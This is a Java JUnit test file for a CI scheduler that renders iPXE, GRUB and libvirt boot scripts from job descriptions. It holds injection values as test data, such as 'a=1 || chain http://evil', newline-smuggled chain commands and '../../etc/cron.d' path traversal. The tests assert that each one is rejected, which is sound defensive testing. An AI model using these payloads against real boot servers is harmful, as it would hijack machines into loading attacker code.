package org.compassci.sched.boot;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import org.compassci.sched.model.Json;
import java.util.List;
import org.junit.jupiter.api.Test;

class BootScriptsTest {

  static final JobPackage.Endpoint AT = new JobPackage.Endpoint("10.0.2.2", 3000);
  static final String PKG = "http://10.0.2.2:3000/scheduler/v1/packages/abc/job.cgz";

  static ObjectNode job(String extra) {
    return (ObjectNode) Json.parse("{\"id\":\"25030310160812300\",\"suite\":\"boot\","
        + "\"result_root\":\"/result/boot/2025-03-03/bm/25030310160812300\"" + extra + "}");
  }

  @Test
  void ipxeFromTheJobsOsFields() {
    BootPlan p = BootPlan.of(job(",\"os\":\"openeuler\",\"os_arch\":\"x86_64\",\"os_version\":\"20.03\","
        + "\"os_mount\":\"nfs\",\"kernel_custom_params\":\"rdinit=/sbin/init prompt_ramdisk=0\""), PKG, AT,
        BootPlan.Prefixes.DEFAULT);
    String s = BootScripts.render(BootType.IPXE, p);
    assertEquals("#!ipxe\n\n"
        + "initrd http://10.0.2.2:3000/srv/os/openeuler/x86_64/20.03/initrd.lkp\n"
        + "initrd http://10.0.2.2:3000/srv/initrd/lkp/latest/lkp-x86_64.cgz\n"
        + "initrd " + PKG + "\n"
        + "kernel http://10.0.2.2:3000/srv/os/openeuler/x86_64/20.03/boot/vmlinuz user=lkp job=/lkp/scheduled/job.yaml"
        + " ip=dhcp rootovl ro rdinit=/sbin/init prompt_ramdisk=0 console=tty0 console=ttyS0,115200"
        + " initrd=initrd.lkp initrd=lkp-x86_64.cgz initrd=job.cgz\n"
        + "echo ipxe will boot job id=25030310160812300, ip=${ip}, mac=${mac}\n"
        + "echo result_root=/result/boot/2025-03-03/bm/25030310160812300\n\nboot\n", s);
  }

  @Test
  void grubNativeAndLibvirtFromTheJobsOwnUris() {
    BootPlan p = BootPlan.of(job(",\"arch\":\"aarch64\",\"kernel_uri\":\"http://h:8000/k/vmlinuz\","
        + "\"initrds_uri\":[\"http://h:8000/i/a.cgz\"]"), PKG, AT, new BootPlan.Prefixes("http://os:1/", "http://ird:2"));
    assertEquals("#!grub\n\nlinux (http,h:8000)/k/vmlinuz user=lkp job=/lkp/scheduled/job.yaml ip=dhcp rootovl ro"
        + " console=tty0 console=ttyAMA0,115200\n"
        + "initrd (http,h:8000)/i/a.cgz (http,10.0.2.2:3000)/scheduler/v1/packages/abc/job.cgz\nboot\n",
        BootScripts.render(BootType.GRUB, p));
    JsonNode n = Json.parse(BootScripts.render(BootType.NATIVE, p));
    assertEquals("25030310160812300", n.path("job_id").asText());
    JsonNode initrds = Json.parse(n.path("initrds").asText());
    assertEquals(PKG, initrds.get(1).asText());
    JsonNode l = Json.parse(BootScripts.render(BootType.LIBVIRT, p));
    assertEquals("http://h:8000/k/vmlinuz", l.path("kernel_uri").asText());
    assertEquals(2, l.path("initrds_uri").size());
    assertTrue(l.path("kernel_params").asText().startsWith("user=lkp job=/lkp/scheduled/job.yaml"));
    assertEquals("10.0.2.2", l.path("LKP_SERVER").asText());
    assertEquals("3000", l.path("RESULT_WEBDAV_PORT").asText());
    assertEquals("/result/boot/2025-03-03/bm/25030310160812300", l.path("result_root").asText());
  }

  @Test
  void aJobThatCannotBootSaysWhy() {
    assertTrue(assertThrows(BootPlan.CannotBoot.class, () -> BootPlan.of(job(""), PKG, AT, BootPlan.Prefixes.DEFAULT))
        .getMessage().contains("no kernel"));
    assertThrows(BootPlan.CannotBoot.class, () -> BootPlan.of(job(",\"kernel_uri\":\"http://h/k\\nchain http://evil\""),
        PKG, AT, BootPlan.Prefixes.DEFAULT));
    assertThrows(BootPlan.CannotBoot.class, () -> BootPlan.of(job(",\"kernel_uri\":\"http://h/${x}\""),
        PKG, AT, BootPlan.Prefixes.DEFAULT));
    // a newline in the parameters is only a separator: no line of the script starts with chain
    String s = BootScripts.render(BootType.IPXE, BootPlan.of(job(",\"kernel_uri\":\"http://h/k\","
        + "\"kernel_custom_params\":\"a=1\\nchain http://evil\""), PKG, AT, BootPlan.Prefixes.DEFAULT));
    assertTrue(s.lines().noneMatch(l -> l.startsWith("chain")), s);
    assertThrows(BootPlan.CannotBoot.class, () -> BootPlan.of(job(",\"kernel_uri\":\"http://h/k\","
        + "\"kernel_custom_params\":\"a='1 2'\""), PKG, AT, BootPlan.Prefixes.DEFAULT));
    // words iPXE or grub read as commands (a chain after ||, a comment, a grub ';'): no script
    // that chains elsewhere, or fails on every box, is made of them
    for (String params : List.of("a=1 || chain http://evil", "a=1 && chain http://evil", "x ; chain http://evil",
        "#c", "a=${x}", "a=1;b", "a={b}", "a=`b`")) {
      BootPlan.CannotBoot e = assertThrows(BootPlan.CannotBoot.class, () -> BootPlan.of(job(",\"kernel_uri\":\"http://h/k\","
          + "\"kernel_custom_params\":\"" + params + "\""), PKG, AT, BootPlan.Prefixes.DEFAULT), params);
      assertTrue(e.getMessage().contains("as a command"), e.getMessage());
    }
    BootPlan.of(job(",\"kernel_uri\":\"http://h/k\",\"kernel_custom_params\":\"a=1&b=2 c#d x=|y memmap=64M$0x1000\""),
        PKG, AT, BootPlan.Prefixes.DEFAULT);
    // a provider host keeps a download under its URL's path as it is
    for (String url : List.of("http://h/srv/../../etc/cron.d/x", "http://h/..", "https://h/a/..?x=1")) {
      BootPlan.CannotBoot e = assertThrows(BootPlan.CannotBoot.class, () -> BootPlan.checkUrl("initrds_uri", url), url);
      assertTrue(e.getMessage().contains("'..'"), e.getMessage());
    }
    BootPlan.checkUrl("kernel_uri", "http://h/a..b/c.../v?x=../y");
  }

  @Test
  void noJobChainsBack() {
    String s = BootScripts.noJob(BootType.IPXE, AT);
    assertTrue(s.startsWith("#!ipxe\n"));
    assertTrue(s.contains("echo No job now\n"));
    assertTrue(s.contains("chain http://10.0.2.2:3000/boot.ipxe/mac/${mac:hexhyp}?arch=${buildarch}&hostname=${hostname}&ip=${net0/ip}"), s);
    assertEquals("{\"job_id\":\"0\"}", BootScripts.noJob(BootType.NATIVE, AT));
    assertEquals("{\"job_id\":\"\"}", BootScripts.noJob(BootType.LIBVIRT, AT));
  }

  @Test
  void schedHostAndPortAreCheckedBeforeTheyGoIntoAScript() {
    assertEquals(new JobPackage.Endpoint("10.0.2.2", 3000), JobPackage.Endpoint.of("10.0.2.2", "3000"));
    JobPackage.Endpoint.of("[::1]", "1");
    for (String[] bad : new String[][] {{"h\nchain x", "1"}, {"h", "0"}, {"h", "70000"}, {"", "1"}, {"a b", "1"}, {"h", "x"}}) {
      assertThrows(org.compassci.sched.model.InvalidJobException.class, () -> JobPackage.Endpoint.of(bad[0], bad[1]));
    }
  }
}
